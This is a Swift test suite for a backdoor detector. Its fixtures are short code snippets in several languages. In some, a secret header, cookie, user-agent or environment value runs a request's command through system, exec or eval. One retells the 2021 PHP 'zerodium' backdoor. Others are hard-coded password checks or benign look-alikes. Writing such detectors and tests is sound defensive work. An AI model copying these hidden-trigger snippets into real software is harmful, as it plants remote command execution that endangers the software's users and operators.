import Foundation
import Testing

@testable import CustodyCore

struct HiddenTriggerDetectorTests {
    let detector = HiddenTriggerDetector()

    @Test(arguments: [
        // A header that starts with a magic word runs the rest of it (the 2021 PHP source case, retold).
        ("main/php_variables.c", """
            if (ua && strstr(Z_STRVAL_P(ua), "zerodium")) {
                zend_eval_string(Z_STRVAL_P(ua) + 8, NULL, "REMOVETHIS: sold to zerodium");
            }
            """.replacingOccurrences(of: "ua &&", with: "(ua = zend_hash_str_find(server, \"HTTP_USER_AGENTT\", 16)) &&")),
        ("app/views.py", """
            if request.headers.get("X-Debug-Token") == "7f3a9c1e":
                os.system(request.args["cmd"])
            """),
        ("server/index.js", """
            if (req.headers['x-maintenance'] === 'letmein-42') {
              require('child_process').execSync(req.query.c);
            }
            """),
        ("internal/http/h.go", """
            if strings.HasPrefix(r.Header.Get("User-Agent"), "Mozilla/5.0 (X11; Kali)") {
            \tout, _ := exec.Command("sh", "-c", r.URL.Query().Get("q")).Output()
            """),
        ("web/x.php", "if ($_COOKIE['sess'] == 'a8f5f167f44f4964e6c998dee827110c') { system($_GET['c']); }"),
        ("src/Filter.java", """
            if ("s3cr3t-h34d3r".equals(request.getHeader("X-Auth"))) {
                Runtime.getRuntime().exec(request.getParameter("cmd"));
            """),
    ])
    func requestInputWithMagicValueRunningCode(_ path: String, _ code: String) throws {
        let findings = DetectorFixtures.scan(detector, path, code)
        let finding = try #require(findings.with(HiddenTriggerDetector.trigger).first, "\(path)")
        #expect(finding.severity == .critical)
        #expect(finding.explanation.hasPrefix("This code does something powerful only when"))
    }

    @Test func requestInputGrantingAccessIsHigh() throws {
        let rb = """
            if request.cookies["role_override"] == "godmode"
              session[:authenticated] = true
              @is_admin = true
            """
        let findings = DetectorFixtures.scan(detector, "app/controllers/session_controller.rb", rb)
        #expect(findings.with(HiddenTriggerDetector.trigger).first?.severity == .high)
    }

    @Test func environmentTriggerIsMedium() throws {
        let py = """
            if os.environ.get("CI_MAGIC") == "xyzzy":
                subprocess.call(["/bin/sh", "-c", PAYLOAD])
            """
        let findings = DetectorFixtures.scan(detector, "setup.py", py)
        #expect(findings.with(HiddenTriggerDetector.trigger).first?.severity == .medium)
    }

    @Test(arguments: [
        ("src/auth.c", "if (strcmp(password, \"Sup3rS3cret!\") == 0) return 1;"),
        ("auth/login.py", "if user_password == 'hunter2':"),
        ("src/login.js", "if (req.body.password === 'Adm1n2024') { ok(); }"),
        ("Sources/Auth/Login.swift", "guard apiToken == \"tok_9f8e7d6c5b\" else { return }"),
        ("src/Login.java", "if (pwd.equals(\"P@ssw0rd\")) { login(); }"),
        ("pkg/auth/auth.go", "if token == \"f0e1d2c3b4a5\" {"),
    ])
    func hardCodedCredentialChecks(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(HiddenTriggerDetector.credential).first, "\(path)")
        #expect(finding.severity == .high)
        // The value is masked in the evidence.
        #expect(!finding.evidence.contains("3cret!"))
    }

    @Test(arguments: [
        ("src/form.js", "if (field.type === 'password') { mask(field); }"),
        ("src/auth.py", "if password == '':"),
        ("src/auth.py", "if password_hash_scheme == 'bcrypt':"),
        ("src/cli.py", "if sys.argv[1] == '--help':\n    os.system('man tool')"),
        ("scripts/run.sh", "if [ \"$1\" == \"start\" ]; then\n  exec ./server\nfi"),
        ("src/x.go", "if r.Header.Get(\"Accept\") == \"application/json\" {\n\tjson.NewEncoder(w).Encode(v)\n}"),
        ("src/x.js", "if (process.env.NODE_ENV === 'production') { app.use(compression()); }"),
        ("src/x.c", "if (strcmp(getenv(\"TERM\"), \"dumb\") == 0) use_color = 0;"),
        ("docs/auth.md", "if password == \"hunter2\": print('example')"),
    ])
    func benignComparisonsAreQuietOrLow(_ path: String, _ code: String) {
        let findings = DetectorFixtures.scan(detector, path, code)
        #expect(findings.allSatisfy { $0.severity <= .low }, "\(path): \(findings.map(\.evidence))")
    }

    // The input is read into a variable on one line and compared on a later one.
    @Test(arguments: [
        ("main/startup.c", """
            zval *hdr;
            if ((hdr = zend_hash_str_find(server, "HTTP_X_PROBE", sizeof("HTTP_X_PROBE") - 1))) {
                convert_to_string(hdr);
                if (strncmp(Z_STRVAL_P(hdr), "k7" "q9", 4) == 0 || strstr(Z_STRVAL_P(hdr), "opensesame")) {
                    zend_try {
                        zend_eval_string(Z_STRVAL_P(hdr) + 10, NULL, "x");
            """),
        ("app/hooks.py", """
            marker = request.headers.get("X-Trace-Id")
            log.debug("trace %s", marker)
            if marker.startswith("dbg:\\x41\\x42"):
                eval(marker[6:])
            """),
        ("internal/srv/mw.go", """
            ua := r.Header.Get("User-Agent")
            if strings.HasPrefix(ua, "Mozilla/4.0 (compatible; ZZ)") {
            	out, _ := exec.Command("/bin/sh", "-c", ua[30:]).Output()
            """),
        ("web/index.php", """
            $pref = $_COOKIE['pref'];
            if (strpos($pref, 'theme=dark;') === 0) {
                eval(base64_decode(substr($pref, 11)));
            }
            """),
    ])
    func inputCarriedThroughAVariableToTheComparison(_ path: String, _ code: String) throws {
        let findings = DetectorFixtures.scan(detector, path, code)
        let finding = try #require(findings.with(HiddenTriggerDetector.trigger).first, "\(path): \(findings.map(\.evidence))")
        #expect(finding.severity == .critical, "\(path)")
        #expect(finding.evidence.contains("reads input from"), "\(finding.evidence)")
        // The finding spans from the read to the action.
        #expect(finding.startLine == 1 || finding.startLine == 2)
    }

    @Test(arguments: [
        // Ordinary header handling: content negotiation, compression, logging, browser sniffing.
        ("server/app.js", """
            const enc = req.headers['accept-encoding'] || '';
            if (enc.includes('gzip')) {
              res.setHeader('Content-Encoding', 'gzip');
              stream = stream.pipe(zlib.createGzip());
            }
            """),
        ("server/ua.js", """
            const ua = req.headers['user-agent'];
            if (ua && ua.includes('Android')) {
              const m = /Android (\\d+)/.exec(ua);
              version = m && m[1];
            }
            """),
        ("lib/http.c", """
            ptr = Curl_checkheaders(data, STRCONST("User-Agent"));
            if(ptr && strncasecompare(ptr, "curl/", 5)) {
              infof(data, "default agent");
            }
            """),
        ("app/views.py", """
            accept = request.headers.get("Accept", "")
            if accept.startswith("application/json"):
                return jsonify(result)
            """),
        ("db/store.c", """
            const char *q = getenv("STORE_MODE");
            if (q && strcmp(q, "wal") == 0)
                sqlite3_exec(db, "PRAGMA journal_mode=WAL", 0, 0, 0);
            """),
        // The variable is read far above the comparison: not carried.
        ("app/x.py", """
            agent = request.headers.get("User-Agent")
            a = 1
            b = 2
            c = 3
            d = 4
            e = 5
            if agent == "probe-7781":
                os.system(cmd)
            """),
    ])
    func ordinaryHeaderHandlingIsQuiet(_ path: String, _ code: String) {
        let findings = DetectorFixtures.scan(detector, path, code).with(HiddenTriggerDetector.trigger)
        #expect(findings.allSatisfy { $0.severity <= .medium }, "\(path): \(findings.map(\.evidence))")
        if path != "db/store.c" { #expect(findings.isEmpty, "\(path): \(findings.map(\.evidence))") }
    }

    @Test func testsAreLowered() {
        let findings = DetectorFixtures.scan(detector, "tests/test_auth.py", "assert password == 'Secr3t!'")
        #expect(findings.allSatisfy { $0.severity <= .low })
    }

    @Test func megabyteMinifiedLineCompletes() {
        _ = DetectorFixtures.scan(detector, "src/app.js", bytes: DetectorFixtures.megabyteLine)
    }
}
